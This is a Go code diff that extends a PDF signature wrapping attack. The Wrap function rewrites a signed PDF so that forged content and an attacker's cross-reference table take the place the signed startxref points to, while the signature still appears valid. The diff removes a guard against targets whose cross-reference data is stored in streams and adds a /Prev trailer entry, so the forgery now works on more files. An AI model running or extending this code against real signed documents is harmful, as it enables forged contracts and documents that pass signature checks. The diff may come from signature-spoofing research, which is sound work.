@@ -11,7 +11,7 @@ import (
 // Wrap is the signature wrapping attack. The second signed range moves towards the end of the file, the place where it
 // stood is filled with an object and a cross-reference table of the attacker's at the very offset that the signed
 // startxref names, and a second /ByteRange says where the range went. The signed bytes stay as they are. The file must
-// end with the signature's own revision and have a cross-reference table.
+// end with the signature's own revision.
 func Wrap(signed []byte, text string) ([]byte, error) {
 	p, err := find(signed)
 	if err != nil {
@@ -22,7 +22,7 @@ func Wrap(signed []byte, text string) ([]byte, error) {
 		return nil, err
 	}
 	section := doc.Sections()[0]
-	if section.Stream || p.numbers[2]+p.numbers[3] != int64(len(signed)) || section.Pos < p.numbers[2] {
+	if p.numbers[2]+p.numbers[3] != int64(len(signed)) || section.Pos < p.numbers[2] {
 		return nil, ErrTarget
 	}
 	_, page, err := doc.FirstPage()
@@ -79,6 +79,15 @@ func (w *wrapper) head() string {
 	return "<" + message + ">" + string(rest) + " /ByteRange "
 }
 
+func (w *wrapper) packed() bool {
+	for _, s := range w.doc.Sections() {
+		if s.Stream {
+			return true
+		}
+	}
+	return false
+}
+
 // xref is the attacker's table: the forged content at its place, what stood behind the hole moved by shift.
 func (w *wrapper) xref(content, at int, shift int64) string {
 	var b strings.Builder
@@ -97,6 +106,10 @@ func (w *wrapper) xref(content, at int, shift int64) string {
 		fmt.Fprintf(&b, "%d 1\n%010d 00000 n\r\n", num, pos)
 	}
 	root, _ := w.doc.Trailer()["Root"].(pdf.Ref)
-	fmt.Fprintf(&b, "trailer\n<</Size %d /Root %d %d R>>\n", w.doc.Objects(), root.Num, root.Gen)
+	prev := "" // for what older sections list that stands in no place of its own, but in an object stream
+	if all := w.doc.Sections(); len(all) > 1 && w.packed() {
+		prev = fmt.Sprintf(" /Prev %d", all[1].Pos)
+	}
+	fmt.Fprintf(&b, "trailer\n<</Size %d /Root %d %d R%s>>\n", w.doc.Objects(), root.Num, root.Gen, prev)
 	return b.String()
 }
